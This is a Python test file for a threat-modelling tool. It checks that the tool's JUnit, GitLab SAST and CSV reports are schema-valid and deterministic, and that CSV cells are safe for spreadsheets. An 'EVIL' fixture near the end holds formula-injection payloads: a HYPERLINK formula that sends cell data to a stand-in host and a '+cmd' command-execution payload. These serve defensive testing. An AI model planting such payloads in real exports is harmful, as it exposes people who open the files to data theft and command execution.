"""JUnit XML, GitLab SAST and CSV: valid against their published schemas, deterministic, with the
gate's failures, and safe for spreadsheets."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import csvw
import jsonschema
import pytest
import xmlschema
from hypothesis import given
from hypothesis import strategies as st

from tmlogic.analysis import AnalysisOptions, analyze
from tmlogic.outputs.csv_output import COLUMNS, neutralise_formula
from tmlogic.outputs.formats import render_format
from tmlogic.result import Gate
from tmlogic.tracking import track

ROOT = Path(__file__).resolve().parents[1]
DATA = ROOT / "tests" / "data" / "outputs"
RULES = DATA / "rules"
EXAMPLE = ROOT / "examples" / "webshop" / "threat_model.md"


def _result(model: Path, gate: Gate | None = None):  # type: ignore[no-untyped-def]
    result = analyze(model, AnalysisOptions(rule_paths=(RULES,), builtin_rules=False)).result
    if gate is None:
        return result
    return track(model, result, use_risk_file=False).annotated(gate)


@pytest.fixture()
def shop(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    shutil.copy(DATA / "web.md", tmp_path / "web.md")
    monkeypatch.chdir(tmp_path)
    return Path("web.md")


def test_junit_is_valid_and_fails_what_the_gate_fails(shop: Path) -> None:
    result = _result(shop, Gate("high"))
    text = render_format(result, "junit")
    assert text == render_format(result, "junit")
    schema = xmlschema.XMLSchema(str(DATA / "junit-10.xsd"))
    schema.validate(text)
    doc = schema.to_dict(text)
    suite = doc["testsuite"][0]
    cases = suite["testcase"]
    failing = [t for t in result.active if t.severity.level in ("high", "critical")]
    assert int(suite["@failures"]) == len(failing) > 0
    assert int(suite["@skipped"]) == len(result.threats) - len(result.active) == 1
    failed = [c for c in cases if "failure" in c]
    assert {c["@classname"] for c in failed} == {t.rule.id for t in failing}
    assert all(c["@name"].endswith(")") and "(T" in c["@name"] for c in failed)  # targets and threat id
    # a rule that found nothing is one passing case
    quiet = {r.id for r in result.rules} - {t.rule.id for t in result.threats}
    assert {c["@classname"] for c in cases if c["@name"] == "no threat"} == quiet


def test_junit_without_a_gate_has_no_failures(shop: Path) -> None:
    text = render_format(_result(shop, Gate("none")), "junit")
    assert 'failures="0"' in text and "<failure" not in text


@given(st.text(alphabet=st.sampled_from("&<>\"'\n\r\t ab\u00e9\U0001f600"), max_size=12))
def test_junit_escapes_as_the_standard_library_does(text: str) -> None:
    from xml.sax.saxutils import escape as sax_escape, quoteattr as sax_quoteattr

    from tmlogic.outputs.junit import escape, quoteattr

    assert escape(text) == sax_escape(text)
    assert quoteattr(text) == sax_quoteattr(text)


def test_gitlab_sast_is_valid_against_gitlabs_schema(shop: Path) -> None:
    result = _result(shop)
    text = render_format(result, "gitlab-sast")
    assert text == render_format(result, "gitlab-sast")
    schema = json.loads((DATA / "gitlab-sast-report-format-15.0.7.json").read_text(encoding="utf-8"))
    doc = json.loads(text)
    jsonschema.Draft7Validator(schema).validate(doc)
    assert doc["version"] == schema["self"]["version"]
    vulns = doc["vulnerabilities"]
    assert len(vulns) == len(result.active)  # accepted threats left out
    assert {v["identifiers"][0]["value"] for v in vulns} == {t.id for t in result.active}
    assert all(v["location"]["file"] == "web.md" and v["location"]["start_line"] >= 1 for v in vulns)
    assert {v["severity"] for v in vulns} <= {"Critical", "High", "Medium", "Low"}


def test_gitlab_sast_of_the_example_with_builtin_rules_is_valid() -> None:
    result = analyze(EXAMPLE).result
    schema = json.loads((DATA / "gitlab-sast-report-format-15.0.7.json").read_text(encoding="utf-8"))
    jsonschema.Draft7Validator(schema).validate(json.loads(render_format(result, "gitlab-sast")))


def _csv_rows(text: str, folder: Path) -> list[dict[str, object]]:
    (folder / "threats.csv").write_text(text, encoding="utf-8", newline="")
    shutil.copy(DATA / "tmlogic-threats.csv-metadata.json", folder / "threats.csv-metadata.json")
    table = csvw.Table.from_file(folder / "threats.csv-metadata.json")
    rows = list(table.iterdicts(strict=True))
    assert table.check_primary_key()
    return rows


def test_csv_is_valid_against_its_table_schema(shop: Path, tmp_path: Path) -> None:
    result = _result(shop, Gate("high"))
    text = render_format(result, "csv")
    assert text == render_format(result, "csv") and text.endswith("\r\n")
    rows = _csv_rows(text, tmp_path)
    assert [r["id"] for r in rows] == [t.id for t in result.threats]
    assert next(csv.reader(io.StringIO(text))) == list(COLUMNS)
    assert {r["status"] for r in rows} == {"open", "accepted"}
    assert any(r["fails_build"] is True for r in rows) and any(r["fails_build"] is False for r in rows)


EVIL = """\
# Threat Model: Evil
## Boundaries
- **Internet**: isTrusted=False
- **Corporate**: isTrusted=True
## Actors
- **=HYPERLINK("http://x.example/?a="&A1,"click")**: boundary=Internet
## Servers
- **@SUM(1+1)**: boundary=Corporate
## Dataflows
- **+cmd|' /C calc'!A0**: from="=HYPERLINK(\\"http://x.example/?a=\\"&A1,\\"click\\")", to="@SUM(1+1)", protocol="HTTP"
"""


def test_csv_cells_never_start_a_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "evil.md").write_text(EVIL, encoding="utf-8")
    result = analyze(Path("evil.md")).result
    assert result.threats
    text = render_format(result, "csv")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(c.startswith("'=HYPERLINK") or c.startswith("'@SUM") or c.startswith("'+cmd") for c in cells)
    _csv_rows(text, tmp_path)  # and still valid
    assert neutralise_formula("-2+3") == "'-2+3" and neutralise_formula("ok") == "ok"
